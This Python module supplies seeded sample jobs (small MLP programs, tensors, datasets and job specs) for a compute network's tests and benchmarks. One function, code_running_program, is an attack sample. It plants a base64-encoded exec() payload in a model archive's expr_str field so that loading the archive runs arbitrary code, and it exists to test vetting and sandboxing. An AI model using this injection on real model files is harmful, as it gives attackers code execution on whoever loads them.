"""Small, seeded sample jobs (specs with their input bytes) for the selftest, tests and benchmarks."""

import io
from dataclasses import dataclass

from neurolink.spec import (
    BenchmarkWorkload,
    InferenceWorkload,
    JobSpec,
    MLPArch,
    Requirements,
    TrainWorkload,
)

# Stand-in CIDs: the dispatcher receives input bytes; the content store maps real CIDs to them.
PROGRAM_CID = "bafkreiprogramprogramprogramprogramprogramprogramprogram"
TENSORS_CID = "bafkreitensorstensorstensorstensorstensorstensorstensor"
DATASET_CID = "bafkreidatasetdatasetdatasetdatasetdatasetdatasetdataset"


@dataclass(frozen=True)
class SampleJob:
    """A named spec and the bytes of each of its inputs."""

    name: str
    spec: JobSpec
    inputs: dict[str, bytes]


def program_bytes(in_features: int = 8, out_features: int = 4, seed: int = 0) -> bytes:
    """A pickle-free .pt2 archive of a small MLP with a dynamic batch dimension."""
    import torch

    from neurolink.pt2 import save_program

    torch.manual_seed(seed)
    model = torch.nn.Sequential(
        torch.nn.Linear(in_features, 16), torch.nn.ReLU(), torch.nn.Linear(16, out_features)
    )
    batch = torch.export.Dim("batch")
    program = torch.export.export(model, (torch.randn(2, in_features),), dynamic_shapes=({0: batch},))
    buffer = io.BytesIO()
    save_program(program, buffer)
    return buffer.getvalue()


def code_running_program(script: str) -> bytes:
    """An attack sample: the MLP program with one `expr_str` that runs `script` when torch loads it.

    torch 2.13 hands `expr_str` to sympy, which evaluates it; vetting must refuse this archive, and
    with vetting off the sandbox must contain it (tests/integration/execution/test_sandbox.py).
    """
    import base64
    import json
    import zipfile

    encoded = base64.b64encode(script.encode()).decode()
    payload = f"__import__('builtins').exec(__import__('base64').b64decode('{encoded}').decode())"
    source = zipfile.ZipFile(io.BytesIO(program_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dest:
        for info in source.infolist():
            content = source.read(info)
            if info.filename.endswith("models/model.json"):
                model = json.loads(content)
                sizes = model["graph_module"]["graph"]["tensor_values"]["input"]["sizes"]
                sizes[0]["as_expr"]["expr_str"] = payload
                content = json.dumps(model).encode()
            dest.writestr(info, content)
    return out.getvalue()


def tensors_bytes(rows: int = 64, in_features: int = 8, name: str = "input", seed: int = 1) -> bytes:
    import torch

    from node.worker.canonical import tensors_bytes as canonical

    gen = torch.Generator().manual_seed(seed)
    return canonical({name: torch.randn(rows, in_features, generator=gen)})


def dataset_bytes(rows: int = 256, in_features: int = 8, classes: int = 4, seed: int = 2) -> bytes:
    """A learnable classification set: labels from a fixed random linear map of x."""
    import torch

    from node.worker.canonical import tensors_bytes as canonical

    gen = torch.Generator().manual_seed(seed)
    x = torch.randn(rows, in_features, generator=gen)
    y = (x @ torch.randn(in_features, classes, generator=gen)).argmax(dim=1)
    return canonical({"x": x, "y": y})


def benchmark_job(size: int = 256, devices: int = 1, iterations: int = 5) -> SampleJob:
    spec = JobSpec(
        workload=BenchmarkWorkload(size=size, iterations=iterations),
        requirements=Requirements(gpu_count=devices, max_runtime_s=120),
    )
    return SampleJob("benchmark", spec, {})


def inference_job(devices: int = 1, rows: int = 64) -> SampleJob:
    spec = JobSpec(
        workload=InferenceWorkload(program="model", inputs="batch", batch_size=16),
        inputs={"model": PROGRAM_CID, "batch": TENSORS_CID},
        requirements=Requirements(gpu_count=devices, max_runtime_s=120),
    )
    # The program's one argument is `input`: torch.export keeps nn.Sequential.forward's name.
    return SampleJob("inference", spec, {"model": program_bytes(), "batch": tensors_bytes(rows)})


def train_job(
    devices: int = 1,
    *,
    epochs: int = 3,
    rows: int = 256,
    batch_size: int = 32,
    in_features: int = 8,
    hidden: tuple[int, ...] = (32,),
) -> SampleJob:
    spec = JobSpec(
        workload=TrainWorkload(
            model=MLPArch(in_features=in_features, hidden=hidden, out_features=4),
            dataset="data",
            optimizer="sgd",
            learning_rate=0.1,
            momentum=0.9,
            epochs=epochs,
            batch_size=batch_size,
        ),
        inputs={"data": DATASET_CID},
        requirements=Requirements(gpu_count=devices, max_runtime_s=300),
        seed=7,
    )
    return SampleJob("train", spec, {"data": dataset_bytes(rows, in_features)})


def residual_program_bytes(in_features: int = 16, width: int = 64, depth: int = 4, seed: int = 0) -> bytes:
    """A .pt2 archive of a residual MLP (square hidden layers, like a transformer's): the verification
    benchmark's inference model, deep enough that rounding differences travel through several layers."""
    import torch

    from neurolink.pt2 import save_program

    class Residual(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.inp = torch.nn.Linear(in_features, width)
            self.blocks = torch.nn.ModuleList(torch.nn.Linear(width, width) for _ in range(depth))
            self.norm = torch.nn.LayerNorm(width)
            self.out = torch.nn.Linear(width, 10)

        def forward(self, input: torch.Tensor) -> torch.Tensor:
            h = self.inp(input)
            for block in self.blocks:
                h = h + torch.nn.functional.gelu(block(self.norm(h)))
            out: torch.Tensor = self.out(h)
            return out

    torch.manual_seed(seed)
    batch = torch.export.Dim("batch")
    program = torch.export.export(Residual(), (torch.randn(2, in_features),), dynamic_shapes=({0: batch},))
    buffer = io.BytesIO()
    save_program(program, buffer)
    return buffer.getvalue()


def verification_jobs(seed: int, rows: int = 256) -> list[SampleJob]:
    """An inference and a training job of one seed (weights, inputs, data): the verification benchmark's
    and tests' unit of work, each with square layers so every cheat has something to skip."""
    inference = SampleJob(
        "inference",
        JobSpec(
            workload=InferenceWorkload(program="model", inputs="batch", batch_size=48),
            inputs={"model": PROGRAM_CID, "batch": TENSORS_CID},
            requirements=Requirements(max_runtime_s=120),
            seed=seed,
        ),
        {"model": residual_program_bytes(seed=seed), "batch": tensors_bytes(rows, 16, seed=seed + 1)},
    )
    train = SampleJob(
        "train",
        JobSpec(
            workload=TrainWorkload(
                model=MLPArch(in_features=8, hidden=(48, 48, 48), out_features=4),
                dataset="data",
                optimizer="adam",
                learning_rate=0.01,
                # 48 steps: long enough for rounding differences to grow through training.
                epochs=6,
                batch_size=32,
            ),
            inputs={"data": DATASET_CID},
            requirements=Requirements(max_runtime_s=300),
            seed=seed,
        ),
        {"data": dataset_bytes(rows, 8, seed=seed + 2)},
    )
    return [inference, train]
